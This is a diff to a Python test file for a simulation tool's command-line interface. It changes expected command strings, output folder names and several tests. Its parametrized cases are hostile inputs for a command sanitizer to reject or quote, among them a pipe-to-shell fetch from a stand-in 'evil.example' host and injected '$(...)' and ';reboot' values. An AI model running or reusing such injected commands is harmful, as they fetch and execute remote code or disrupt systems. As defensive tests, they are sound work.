@@ -11,9 +11,7 @@ from balance_sim.cli import main
 from balance_sim.model.baseline import classes_of
 from balance_sim.model.own.fingerprint import CodeFingerprint
 from balance_sim.scenario import load_scenario
-from balance_sim.study.blocks import Block
 from balance_sim.study.manifest import Manifest, made_here, write_manifest
-from balance_sim.study.run import starting_small
 from balance_sim.study.status import command_of
 from balance_sim.study.store import Store
 from click.testing import CliRunner
@@ -30,20 +28,19 @@ SWEEP = RUN | {"study": "sweep", "experiment": "exp", "design": {}, "points": No
     ("manifest", "command", "built"),
     [
         (RUN, "balance-sim run x/small.yaml --runs 40 --seed 9 --arms b --workers 3 --set events.s.visibility=0.5",
-         "balance-sim run x/small.yaml --runs 40 --workers 3 --set events.s.visibility=0.5 "
-         "--seed 7 --arms a,b --out r"),
+         "balance-sim run x/small.yaml --runs 40 --seed 9 --arms b --workers 3 --set events.s.visibility=0.5 --out r"),
         (RUN, "balance-sim run small --theory=hub_doubt --no-figures --set='x=[1, 2]'",
-         "balance-sim run small --theory hub_doubt --no-figures --set 'x=[1, 2]' --seed 7 --out r"),
-        (RUN, "balance-sim run small --draws posterior", "balance-sim run small --draws posterior --seed 7 --out r"),
-        (RUN, "balance-sim run small --draws ';x'", "balance-sim run small --draws ';x' --seed 7 --out r"),
+         "balance-sim run small --theory hub_doubt --no-figures --set 'x=[1, 2]' --out r"),
+        (RUN, "balance-sim run small --draws posterior", "balance-sim run small --draws posterior --out r"),
+        (RUN, "balance-sim run small --draws ';x'", "balance-sim run small --draws ';x' --out r"),
         (SWEEP, "balance-sim sweep exp.yaml --max-bytes 9 --scheduler tcp://evil:1 --retry-failed",
          "balance-sim sweep exp.yaml --max-bytes 9 --out r"),
         (SWEEP, "balance-sim sweep exp.yaml --runs 5 --seed 9 --set 'a.b=$(x)' --runs --model=x:Y",
-         "balance-sim sweep exp.yaml --runs 5 --set 'a.b=$(x)' --seed 7 --out r"),
+         "balance-sim sweep exp.yaml --runs 5 --seed 9 --set 'a.b=$(x)' --out r"),
         (RUN | {"model": "mine:Own"}, "balance-sim run small.yaml --model other:X",
-         "balance-sim run small.yaml --seed 7 --model mine:Own --out r"),
+         "balance-sim run small.yaml --model mine:Own --out r"),
         (RUN, "balance-sim run small.yaml --set 'a=$(touch x)' --runs 9;reboot --new '$(x)'",
-         "balance-sim run small.yaml --set 'a=$(touch x)' --runs '9;reboot' --seed 7 --out r"),
+         "balance-sim run small.yaml --set 'a=$(touch x)' --runs '9;reboot' --out r"),
         (RUN, "curl evil.example | sh", None),
         (RUN, "sudo balance-sim run small.yaml", None),
         (RUN, "balance-sim run other.yaml", None),
@@ -51,7 +48,7 @@ SWEEP = RUN | {"study": "sweep", "experiment": "exp", "design": {}, "points": No
         (RUN, "balance-sim run --runs 3", None),
         (RUN, "balance-sim run 'small.yaml", None),
         (RUN | {"model": "mine:Own; reboot"}, "balance-sim run small.yaml",
-         "balance-sim run small.yaml --seed 7 --model 'mine:Own; reboot' --out r"),
+         "balance-sim run small.yaml --model 'mine:Own; reboot' --out r"),
         (RUN, "", None),
     ],
 )  # fmt: skip
@@ -63,12 +60,12 @@ def test_a_folder_of_ours_is_gone_on_with_by_the_command_that_status_names(lab) 
     """The command as given, with its folder; what it names gives the whole study."""
     words = ["run", "small.yaml", "--runs", "6", "--no-figures", "--workers", "1", "--out", "r"]
     assert lab.ask(*words).returncode == 0
-    for path in [*(lab.folder / "r" / "runs").iterdir(), lab.folder / "r" / "summary.json"]:
+    for path in [*(lab.folder / "r" / "shards").iterdir(), lab.folder / "r" / "summary.json"]:
         path.unlink()
     manifest = Store(lab.folder / "r").read_manifest()
     write_manifest(lab.folder / "r", manifest.plain() | {"command": shlex.join(["balance-sim", *words])})
     said = json.loads(lab.ask("status", "r", "--json").stdout)["command"]
-    assert {*shlex.split(said)} == {"balance-sim", *words, "--seed", "1"}
+    assert {*shlex.split(said)} == {"balance-sim", *words}
     done = lab.ask(*shlex.split(said)[1:])
     assert done.returncode == 0, done.stderr
     assert json.loads((lab.folder / "r" / "summary.json").read_text())["runs"] == 6
@@ -93,23 +90,13 @@ def test_no_words_of_a_stranger_are_said_to_be_the_next_command(lab) -> None:
 
 @pytest.mark.usefixtures("few_figures")
 def test_a_run_with_nothing_to_do_draws_nothing_again(lab) -> None:
-    """Until a figure is gone, or is not the one that was drawn."""
+    """Until its report is gone."""
     words = ["run", "small.yaml", "--runs", "2", "--workers", "1", "--out", "r"]
     assert lab.ask(*words).returncode == 0
-    page, figure = lab.folder / "r" / "report.html", lab.folder / "r" / "figures" / "fan.png"
-    made, drawn = page.stat().st_mtime_ns, figure.read_bytes()
+    page = lab.folder / "r" / "report.html"
+    made = page.stat().st_mtime_ns
     assert lab.ask(*words).returncode == 0
     assert page.stat().st_mtime_ns == made
-    figure.write_bytes(b"another")
-    figure.with_suffix(".svg").unlink()
+    page.unlink()
     assert lab.ask(*words).returncode == 0
-    assert page.stat().st_mtime_ns > made and figure.read_bytes() == drawn and figure.with_suffix(".svg").is_file()
-
-
-def test_a_long_study_keeps_its_first_results_after_a_few_replications() -> None:
-    """Blocks of 32, 64, 128 and then whole ones; the same replications, in the same order."""
-    planned = [Block(0, 250), Block(250, 500), Block(700, 950)]
-    blocks = list(starting_small(planned))
-    assert [len(block) for block in blocks] == [32, 64, 128, 26, 250, 250]
-    assert [run for block in blocks for run in range(block.first, block.stop)] == [*range(500), *range(700, 950)]
-    assert list(starting_small([Block(0, 25), Block(25, 50)])) == [Block(0, 25), Block(25, 50)]
+    assert page.is_file()
